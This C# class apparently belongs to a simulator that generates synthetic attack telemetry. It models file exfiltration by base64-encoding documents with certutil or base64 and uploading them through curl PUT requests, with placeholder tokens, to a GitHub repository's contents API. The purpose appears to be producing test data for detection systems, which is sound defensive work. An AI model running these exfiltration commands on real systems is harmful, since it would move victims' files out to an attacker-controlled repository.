using Anomaly.Pipeline.Simulation.Ordinary;
using Anomaly.Pipeline.Simulation.World;

namespace Anomaly.Pipeline.Simulation.Attacks;

/// <summary>Files as base64 in the body of <c>PUT /repos/…/contents/…</c>, one curl each.</summary>
internal sealed class ContentsApi : Attack
{
    public override string Kind => "contents-api";

    public override string Description => "curl -X PUT of base64 files to the contents API of GitHub";

    public override bool Fits(SimHost host) => host.Role is Role.Server or Role.Office or Role.Ci or Role.Jump || (host.Role == Role.Developer && !host.Windows);

    public override long Volume(Dice dice) => dice.LogUniform(80_000, 120e6);

    public override void Play(AttackScene scene)
    {
        var recorder = scene.Recorder;
        bool windows = scene.Host.Windows;
        int files = (int)Math.Clamp(scene.Bytes / scene.Dice.LogUniform(200_000, 6_000_000), 2, 40);
        foreach (long bytes in scene.Split(files))
        {
            string name = $"{scene.Dice.Pick(Names.Documents)}{scene.Dice.Between(1, 99)}.zip";
            string body = windows ? $@"{scene.Scratch}\b64" : "/tmp/b64";
            var encode = windows
                ? recorder.Start(scene.Time, scene.Shell, @"C:\Windows\System32\certutil.exe", ["certutil.exe", "-encode", name, body], folder: scene.Scratch)
                : recorder.Start(scene.Time, scene.Shell, "/usr/bin/base64", ["base64", "-w0", name], folder: scene.Scratch);
            recorder.File(scene.Time + 300_000, encode, body);
            scene.Pause(2);
            string url = $"https://api.github.com/repos/{scene.Account}/{scene.Repository}/contents/{name}";
            string[] arguments = (scene.Choice % 3) switch
            {
                0 => ["curl", "-s", "-X", "PUT", "-H", "Authorization: token ghp_simulatedSimulatedSimulated0000000000", "-d", "@" + body, url],
                1 => ["curl", "--silent", "--request", "PUT", "--url", url, "-u", scene.Account + ":ghp_simulatedSimulatedSimulated0000000000", "--data-binary", "@" + body],
                _ => ["curl", "-T", body, "-H", "Authorization: Bearer ghp_simulatedSimulatedSimulated0000000000", url],
            };
            var curl = recorder.Start(scene.Time, scene.Shell, Programs.Curl(scene.Host), arguments, folder: scene.Scratch);
            scene.Time = recorder.Tls(scene.Time + 90_000, curl, RepositorySites.GitHubApi, bytes, 6_500, GitCommands.Transfer(scene.Dice, bytes));
            scene.Pause(scene.Dice.Chance(0.5) ? 4 : 120);
        }
    }
}
